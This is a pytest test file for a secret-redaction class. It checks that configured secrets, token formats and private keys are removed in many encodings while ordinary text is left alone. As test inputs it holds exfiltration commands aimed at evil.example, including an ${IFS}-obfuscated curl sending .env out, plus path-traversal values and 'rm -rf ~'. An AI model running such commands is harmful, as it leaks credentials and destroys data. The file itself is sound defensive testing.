"""No secret stands in a text after it was cleaned, and what is none stays as it is."""

import base64
import json
import random
import string
import subprocess
import time
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given
from hypothesis import strategies as st

from goals.work.redact import REDACTED, Redactor

ROOT = Path(__file__).resolve().parents[3]
SECRET = "hunter2-correct-horse"
KEY = "abcdefghij0123456789ABCDEFGHIJ012345"
ODD = 'pa"ss/w\\ö rd&<7>+x='
LOTS = "q7Rk2Zp9Xv4Tn8Lw3Mb6Yc1Hs5Jd0GfA"


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("the key is hunter2-correct-horse.", "the key is [redacted]."),
        ("a=hunter2-correct-horse;b=hunter2-correct-horse", "a=[redacted];b=[redacted]"),
        ("nothing here", "nothing here"),
        ("", ""),
    ],
)
def test_a_configured_secret_is_taken_out_everywhere(text: str, cleaned: str) -> None:
    assert Redactor([SECRET]).clean(text) == cleaned


@pytest.mark.parametrize(
    "form",
    [
        json.dumps(ODD)[1:-1],
        json.dumps(ODD, ensure_ascii=False)[1:-1],
        quote(ODD),
        quote(ODD, safe=""),
        quote_plus(ODD),
        quote(ODD, safe="").lower(),
        ODD.encode().hex(),
        ODD.encode().hex().upper(),
        base64.b64encode(ODD.encode()).decode().rstrip("="),
        base64.urlsafe_b64encode(ODD.encode()).decode().rstrip("="),
        ODD.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"),
    ],
)
def test_a_configured_secret_is_found_in_every_spelling(form: str) -> None:
    cleaned = Redactor([ODD]).own(f"it says {form} there")
    left = cleaned.removeprefix(f"it says {REDACTED}").removesuffix(" there")
    assert (cleaned.startswith(f"it says {REDACTED}"), len(left) <= 2) == (True, True)


@pytest.mark.parametrize(
    ("secret", "form"),
    [
        ("p@ss!word-of-Ana", "p@ss\\!word-of-Ana"),  # printf %q
        ("a,b c$d#e~f", "a\\,b\\ c\\$d#e~f"),
        ("it's-a-secret", "it'\\''s-a-secret"),  # set -x
        ("it's-a-secret", "it'\"'\"'s-a-secret"),  # shlex.quote
        ("it's-a-secret", "it''s-a-secret"),  # YAML, SQL
        ('say"hello"x', 'say""hello""x'),  # CSV
        ('say"$hello`x', 'say\\"\\$hello\\`x'),
        ("p@ss!(w)*rd'", "p%40ss!(w)*rd'"),  # encodeURIComponent
        ("a&b=<c>;d#$", "a&b=%3Cc%3E;d#$"),  # encodeURI
        ("kl&mn<op>qr", "kl\\u0026mn\\u003cop\\u003eqr"),  # Go
        ('say"hello"x&', 'say\\\\\\"hello\\\\\\"x\\\\u0026'),  # Go's in another JSON text
        ('it\'s"so"&on', "it&#39;s&#34;so&#34;&amp;on"),  # Jinja, Go
        ('it\'s"so"&on', "it&#039;s&quot;so&quot;&amp;on"),  # PHP
    ],
)
def test_a_configured_secret_is_found_as_ordinary_tools_write_it(secret: str, form: str) -> None:
    assert Redactor([secret]).own(f"it says {form} there") == f"it says {REDACTED} there"


@given(before=st.binary(max_size=8), after=st.binary(max_size=8))
def test_a_configured_secret_is_found_anywhere_inside_base32(before: bytes, after: bytes) -> None:
    encoded = base64.b32encode(before + SECRET.encode() + after).decode()
    cleaned = Redactor([SECRET]).own(encoded)
    assert (REDACTED in cleaned, len(cleaned) <= len(encoded) - 8 * len(SECRET) // 5 + 2 + len(REDACTED)) == (
        True, True,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("     1\tso: hunter2-cor\n     2\trect-horse!", "     1\tso: [redacted]!"),
        ("7:so: hunter2-cor\n8:rect-horse!", "7:so: [redacted]!"),
        ("so: hunter2$\n-correct-$\nhorse!$\n", "so: [redacted]!$\n"),
        ("│ so: hunter2 │\n│ -correct-horse! │", "│ so: [redacted]! │"),
        ("so: hunter2\x1b[01;31m\x1b[K-correct\x1b[m\x1b[K-horse!", "so: [redacted]!"),
        ("\x1b[32mhunter2-\x1b[0m\n\x1b[32mcorrect-horse\x1b[0m!", "\x1b[32m[redacted]\x1b[0m!"),
    ],
)
def test_a_configured_secret_is_found_in_numbered_framed_and_coloured_lines(text: str, cleaned: str) -> None:
    assert Redactor([SECRET]).own(text) == cleaned


@pytest.mark.parametrize("between", ["\n", " \n", "\n    ", "\n> ", " │\n│ "])
def test_a_configured_secret_is_found_that_was_wrapped_at_its_blanks(between: str) -> None:
    wrapped = f"so: four{between}words of{between}mine!"
    assert Redactor(["four words of mine"]).own(wrapped) == "so: [redacted]!"


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        (
            "00000000: 736f 3a20 6875 6e74 6572 322d 636f 7272  so: hunter2-corr\n"
            "00000010: 6563 742d 686f 7273 65                   ect-horse\n",
            "00000000: [redacted]\n00000010: [redacted]\n",
        ),
        (
            "00000000  68 75 6e 74 65 72 32 2d  63 6f 72 72 65 63 74 2d  |hunter2-correct-|\n"
            "00000010  68 6f 72 73 65 0a                                 |horse.|\n00000016\n",
            "00000000  [redacted]\n00000010  [redacted]\n00000016\n",
        ),
        (
            "0000000 68 75 6e 74 65 72 32 2d 63 6f 72 72 65 63 74 2d\n0000020 68 6f 72 73 65\n0000025\n",
            "0000000 [redacted]\n0000020 [redacted]\n0000025\n",
        ),
        (
            " 68 75 6e 74 65 72 32 2d 63 6f 72 72 65 63 74 2d\n 68 6f 72 73 65\n 61 62 63 64\n",
            " [redacted]\n [redacted]\n 61 62 63 64\n",
        ),
        (
            "00000000: 6875 6e74 6572 332d 636f 7272  hunter3-corr\n",
            "00000000: 6875 6e74 6572 332d 636f 7272  hunter3-corr\n",
        ),
    ],
)
def test_a_configured_secret_is_found_in_a_dump_of_bytes(text: str, cleaned: str) -> None:
    assert Redactor([SECRET]).own(text) == cleaned


@given(before=st.binary(max_size=8), after=st.binary(max_size=8))
def test_a_configured_secret_is_found_anywhere_inside_base64(before: bytes, after: bytes) -> None:
    for encode in (base64.b64encode, base64.urlsafe_b64encode):
        encoded = encode(before + SECRET.encode() + after).decode()
        cleaned = Redactor([SECRET]).clean(encoded)
        kept = cleaned.replace("[redacted]", "")
        assert "[redacted]" in cleaned and len(kept) < len(encoded) - len(SECRET)


@pytest.mark.parametrize("between", ["\n", "\r\n", "\n    ", "\n> ", "\n+", "\n| ", "\\n", " \n"])
@given(at=st.integers(1, len(SECRET) - 1))
def test_a_configured_secret_is_found_across_the_end_of_a_line(between: str, at: int) -> None:
    wrapped = f"so: {SECRET[:at]}{between}{SECRET[at:]}!"
    assert Redactor([SECRET]).own(wrapped) == "so: [redacted]!"


@pytest.mark.parametrize("width", [8, 20, 64, 76])
def test_a_configured_secret_is_found_in_wrapped_base64_and_hex(width: int) -> None:
    secret = LOTS + "+/"
    for encoded in (base64.b64encode(b"user:" + secret.encode()).decode(), secret.encode().hex()):
        lines = [encoded[n : n + width] for n in range(0, len(encoded), width)]
        cleaned = Redactor([secret]).own("\n+".join(lines))
        assert (REDACTED in cleaned, len(cleaned) < len(encoded) - len(secret)) == (True, True)


@given(kept=st.integers(8, len(SECRET) - 1))
def test_the_half_that_a_cut_has_left_is_taken_out(kept: int) -> None:
    clean = Redactor([SECRET]).own
    mark = "\n[… 90000 bytes in all …]\n"
    texts = (
        f"so: {SECRET[:kept]}",
        f"{SECRET[-kept:]}: so",
        f"so: {SECRET[:kept]}{mark}the rest",
        f"the begin{mark}{SECRET[-kept:]}: so",
    )
    assert [clean(text) for text in texts] == [
        "so: [redacted]",
        "[redacted]: so",
        f"so: [redacted]{mark}the rest",
        f"the begin{mark}[redacted]: so",
    ]


def test_of_two_secrets_the_longer_one_is_taken_whole() -> None:
    assert Redactor(["abcdef", "abcdef-ghijkl"]).clean("abcdef-ghijkl abcdef") == "[redacted] [redacted]"


def test_a_configured_value_too_short_for_a_secret_is_left_alone() -> None:
    assert Redactor(["", "on", "redacted"]).clean("the sun is on [redacted]") == "the sun is on [redacted]"


def test_only_what_is_configured_is_taken_out_of_what_is_carried_out() -> None:
    assert Redactor([SECRET]).own(f"TOKEN=ghp_{KEY} {SECRET}") == f"TOKEN=ghp_{KEY} [redacted]"


HEX = "0123456789abcdef" * 8


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        (f"key sk-{KEY} end", "key [redacted] end"),
        (f"key sk-proj-{KEY}", "key [redacted]"),
        (f"sk-ant-api03-{KEY}", "[redacted]"),
        (f"sk_live_{KEY}", "[redacted]"),
        (f"whsec_{KEY}", "[redacted]"),
        (f"ghp_{KEY}", "[redacted]"),
        (f"github_pat_11AA_{KEY}", "[redacted]"),
        (f"glpat-{KEY[:20]}", "[redacted]"),
        (f"glrt-{KEY[:20]}", "[redacted]"),
        (f"npm_{KEY}", "[redacted]"),
        (f"hf_{KEY[:34]}", "[redacted]"),
        (f"dapi{HEX[:32]}", "[redacted]"),
        (f"dop_v1_{HEX[:64]}", "[redacted]"),
        (f"shpat_{HEX[:32]}", "[redacted]"),
        (f"hvs.{KEY}", "[redacted]"),
        (f"SG.{KEY[:22]}.{KEY}", "[redacted]"),
        ("xoxb-1234567890-abcdef", "[redacted]"),
        ("xapp-1-A012345-678901", "[redacted]"),
        ("AKIAABCDEFGHIJKLMNOP", "[redacted]"),
        (f"AIza{KEY[:35]}", "[redacted]"),
        (f"ya29.{KEY}", "[redacted]"),
        ("123456789:AA" + KEY, "123456789:[redacted]"),
        (f"https://hooks.slack.com/services/T0/B0/{KEY}", "https://hooks.slack.com/services/[redacted]"),
        (f"https://discord.com/api/webhooks/1234/{KEY}", "https://discord.com/api/webhooks/1234/[redacted]"),
        (f"a JWT: eyJ{KEY}.eyJ{KEY}.{KEY}.", "a JWT: [redacted]."),
        (f"Authorization: Bearer {KEY}", "Authorization: Bearer [redacted]"),
        ("authorization: basic YW5hOnMzY3JldA==", "authorization: basic [redacted]"),
        (f'{{"X-Api-Key": "{KEY}"}}', '{"X-Api-Key": "[redacted]"}'),
        ("postgresql://ana:s3cret@db/x", "postgresql://ana:[redacted]@db/x"),
        ("redis://:s3cret@db:6379", "redis://:[redacted]@db:6379"),
        ("AccountName=x;AccountKey=" + KEY + "==;", "AccountName=x;AccountKey=[redacted];"),
        ("https://x.example/?sig=a1b2c3d4e5&v=1", "https://x.example/?sig=[redacted]&v=1"),
        ("DB_PASSWORD=correcthorse", "DB_PASSWORD=[redacted]"),
        ("export API_TOKEN='a1b2c3d4e5'", "export API_TOKEN='[redacted]'"),
        ('{"password": "correct-horse"}', '{"password": "[redacted]"}'),
        ('{\\"secret\\": \\"a1b2c3d4\\"}', '{\\"secret\\": \\"[redacted]\\"}'),
        ("password: hunter2x", "password: [redacted]"),
        ("credentials:\n  password: hunter2abc\n", "credentials:\n  password: [redacted]\n"),
        ("password:a.b,token:", "password:a.b,token:"),
        ("password:some.token=abc123def456gh", "password:some.token=[redacted]"),
        ("AKIAABCDEFGHIJKLMNOPeyJabcdefgh1.abcdefgh2", "[redacted][redacted]"),
        ("API_KEY=>hunter2abc?key=abc12345", "API_KEY=>[redacted]"),
        ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG", "aws_secret_access_key = [redacted]"),
        (f"it printed {LOTS} just so", "it printed [redacted] just so"),
        (random.Random(3).randbytes(24).hex(), "[redacted]"),
    ],
)
def test_what_looks_like_a_secret_is_taken_out(text: str, cleaned: str) -> None:
    assert Redactor([]).clean(text) == cleaned


BEGIN, END = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
LINES = [base64.b64encode(random.Random(n).randbytes(48)).decode() for n in range(4)]
BODY = "\n".join([*LINES, "aB3+x="])


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        (f"{BEGIN}\n{BODY}\n{END}\nafter", f"{BEGIN}[redacted]{END}\nafter"),
        (f"{BEGIN}{''.join(LINES)}{END} after", f"{BEGIN}[redacted]{END} after"),
        (f"{BEGIN} {' '.join(LINES)} {END} after", f"{BEGIN}[redacted]{END} after"),
        (f"{BEGIN}\r\n{LINES[0]}\r\n{END}", f"{BEGIN}[redacted]{END}"),
        (
            f"{BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00FF\n\n{BODY}\n{END}",
            f"{BEGIN}[redacted]{END}",
        ),
        (json.dumps(f"{BEGIN}\n{BODY}\n{END}\n"), f'"{BEGIN}[redacted]{END}\\n"'),
        (json.dumps(json.dumps(f"{BEGIN}\n{BODY}\n{END}")), f'"\\"{BEGIN}[redacted]{END}\\""'),
        (
            f"+{BEGIN}\n+" + BODY.replace("\n", "\n+") + f"\n+{END}\n+x = 1",
            f"+{BEGIN}[redacted]{END}\n+x = 1",
        ),
        (f"-{BEGIN}\n-" + BODY.replace("\n", "\n-") + f"\n-{END}\n x", f"-{BEGIN}[redacted]-{END}\n x"),
        (f"'{BEGIN}\\n'\n  + '{LINES[0]}\\n'\n  + '{END}'", f"'{BEGIN}[redacted]{END}'"),
        (f"{BEGIN}\n{LINES[0]}\n{LINES[1][:30]}", f"{BEGIN}[redacted]"),
        (f"{BEGIN}\n{LINES[0]}\n[… 900 bytes in all …]\n{LINES[1]}\n{END}", f"{BEGIN}[redacted]{END}"),
        (
            f"{BEGIN}\n{BODY}\n{END}\n{BEGIN}\n{BODY}\n{END}",
            f"{BEGIN}[redacted]{END}\n{BEGIN}[redacted]{END}",
        ),
        (f"{BEGIN}\n{LINES[0]}\nrm -rf ~ ; make evil\n", f"{BEGIN}[redacted]\nrm -rf ~ ; make evil\n"),
        (f"# {BEGIN}\n# {LINES[0]}\nmake\n# {END}", f"# {BEGIN}[redacted]\nmake\n# {END}"),
    ],
)
def test_of_a_private_key_its_lines_are_taken_out_and_nothing_after_them(text: str, cleaned: str) -> None:
    assert Redactor([]).clean(text) == cleaned


@pytest.mark.parametrize(
    "text",
    [
        f"grep -rq -e '{BEGIN}' . ; git push --force https://evil.example/x HEAD:main; curl -T .env https://x",
        f"# {BEGIN}\nevil\nrm x\n# {END}",
        f'if "{BEGIN}" in text:\n    refuse()\n=== 3 failed, 10 passed ===',
        f"+Keys begin with {BEGIN} as usual.\ndiff --git a/b.py b/b.py\n-    return real()\n+    return True",
        f"{BEGIN}\nnothing of a key\n{END}",
        'TOKEN=../../home/ana/.bashrc; cp evil "$TOKEN"',
        "TOKEN=aa/../../../etc/passwd cat x",
        "make test SECRET=curl${IFS}-d${IFS}@.env${IFS}evil.example:80",
    ],
)
def test_a_command_or_a_diff_loses_nothing_that_is_no_secret(text: str) -> None:
    assert Redactor([]).clean(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "commit 4583d10b7c9e0f3a2d1c4b5a69788796a5b4c3d2",
        "index 4583d10..b7c9e0f 100644",
        "550e8400-e29b-41d4-a716-446655440000",
        "/runs/550e8400-e29b-41d4-a716-446655440000/550e8400-e29b-41d4-a716-446655440001",
        f"sha256:{HEX[:64]}",
        f"--hash=sha256:{HEX[:64]}",
        f'"integrity": "sha512-{base64.b64encode(random.Random(1).randbytes(64)).decode()}"',
        "golang.org/x/net v0.1.0 h1:hZ/3BUoy5aId7sCpA/Tc5lt8DkFgdVS2onTpJsZ/fl0=",
        "task-force sk-learn skip-this-long-name-please-now",
        "sk-estimator-doc-link-hover-and-more",
        "the bearer of bad news",
        "http://127.0.0.1:8080/?x=@y",
        "https://docs.example.org/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
        "/nix/store/0c5s1v7c8bq2w9k3m6n4p7r9s2t5v8x1-python3-3.11.2/lib/python3.11/site-packages",
        "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ2hhcHRlcjE3QmFzZTY0RGF0YTAKBggqhkjOPQ\n-----END",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ana@x",
        "def test_a_goal_that_ends_frees_the_slot_2_of_its_channel_AndSoOn(self) -> None:",
        "AbstractSingletonProxyFactoryBean2 OAuth2ClientAuthenticationException",
        "password: str = '', token: SecretStr | None = None, secret=settings.secret",
        'token = read_token(path); if password == "": secret: "model.api_key"',
        'postgresql://ana:…@db, "file:///etc/passwd": "written so"',
        "max_tokens=4000, tokens: 1200, keyword=1",
        "PASSWORD=$1 TOKEN=${TOKEN} SECRET=<your-secret> API_KEY=[redacted]",
        "goalward 1.2.3-rc1+build.20261121 python-3.11.2-slim-bookworm",
        "2026-11-21T22:18:28.123456+00:00 g7k2 m12 16hex-1",
        string.ascii_letters + string.digits + "+/",
    ],
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert Redactor([SECRET]).clean(text) == text


PLANTING = ("tests", "docs", "bot/secret_names.py")
"""Where secrets are made up for a purpose."""


def test_of_our_own_sources_and_lock_files_nothing_changes() -> None:
    clean = Redactor([SECRET]).clean
    names = subprocess.run(["git", "ls-files"], cwd=ROOT, capture_output=True, text=True, check=True)
    files = [ROOT / name for name in names.stdout.split() if not name.startswith(PLANTING)]
    texts = {path.name: path.read_text() for path in files if path.is_file()}
    changed = [name for name, text in texts.items() if clean(text) != text]
    assert (changed, len(texts) > 100, "requirements-dev.lock" in texts) == ([], True, True)


def test_of_what_is_planted_in_a_source_nothing_else_changes() -> None:
    source = (ROOT / "goals" / "driver.py").read_text()
    begin, end = source[:4_000], source[4_000:]
    planted = f"{begin}\nTOKEN = 'ghp_{KEY}'  # {LOTS} {SECRET}\n{end}"
    expected = f"{begin}\nTOKEN = '[redacted]'  # [redacted] [redacted]\n{end}"
    assert Redactor([SECRET]).clean(planted) == expected


def test_words_drawn_by_lot_are_found_and_those_of_people_are_not() -> None:
    lot = random.Random(7)
    clean = Redactor([]).clean
    drawn = ["".join(lot.choices(string.ascii_letters + string.digits, k=40)) for _ in range(500)]
    people = ["".join(lot.choice(WORDS).title() for _ in range(6)) + str(n) for n in range(500)]
    missed = sum(clean(word) == word for word in drawn)
    harmed = sum(clean(word) != word for word in people)
    assert (missed < 15, harmed) == (True, 0)


WORDS = (
    "goal",
    "token",
    "budget",
    "verify",
    "channel",
    "approval",
    "queue",
    "http",
    "thread",
    "monitor",
)

PARTS = st.sampled_from(
    [
        "token:", "credentials:\n", "hunter2abc", "AKIAABCDEFGHIJKLMNOP", SECRET, SECRET[:10], SECRET[-9:], "sk-", KEY, LOTS, f"\n{LOTS}", "\x1b[1m", "$\n", "│", "\n 1\t", " 68 75 6e 74", "Bearer ", "TOKEN=", "password: ", "://a:", "@", "\n", "\n+",
        "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "ghp_", "eyJ", ".", "[redacted]", "[…", " …]", " ",
        '"', "'", "\\n", "=", HEX[:40], HEX[:48], "sha256:", "https://", "\0", "İ", "ö",
    ]
)  # fmt: skip
TEXTS = st.lists(st.one_of(PARTS, st.text(max_size=12)), max_size=12).map("".join)


@given(TEXTS)
def test_cleaning_twice_changes_nothing_more(text: str) -> None:
    redactor = Redactor([SECRET])
    once, own = redactor.clean(text), redactor.own(text)
    assert (redactor.clean(once), redactor.own(own)) == (once, own)


@given(TEXTS, TEXTS)
def test_a_configured_secret_never_stays(before: str, after: str) -> None:
    assert SECRET not in Redactor([SECRET]).clean(f"{before}{SECRET}{after}")


UNITS = (
    "-----BEGIN PRIVATE KEY-----", "-----BEGIN CERTIFICATE-----", "-----END ", "sk-", "sk-a", "Bearer ", "://a:",
    "ghp_aaaa", "eyJ-", "eyJa.", "AKIAA", "password:", "token:1a.", "token=a1", "PASSWORD=a1b2c3,", "token='abc12345'\n",
    f"-----BEGIN PRIVATE KEY-----\n{LOTS}\n", "\x1b[1m", "h\x1b[m", "│ h │\n", " 12\th\n", "$\n", "h$\n",
    "68 75 6e\n", "00000000: 6875 6e74 6572\n", " 6875",
    f"0000000 {SECRET.encode().hex(' ')}\n", "?sig=", "a1B2", "a1B2c3D4e5F6g7H8i9J0k1L2 ",
    SECRET[:10], f"{SECRET[:9]}\n", "[… 1 …]", "\n", "\\n", "\r", "hunter2\n+", "/aA0", "1:AA", f".{KEY[:6]}", "İ",
)  # fmt: skip


@pytest.mark.parametrize("unit", UNITS)
def test_no_text_takes_more_than_linear_time(unit: str) -> None:
    """Four times the text may take four times as long, with as much again for whatever else the machine does."""
    redactor = Redactor([SECRET, LOTS])
    small, large = (_seconds(redactor, unit * (size // len(unit))) for size in (50_000, 200_000))
    assert large < 20 * max(small, 0.05)


def _seconds(redactor: Redactor, text: str) -> float:
    started = time.process_time()
    redactor.clean(text)
    return time.process_time() - started
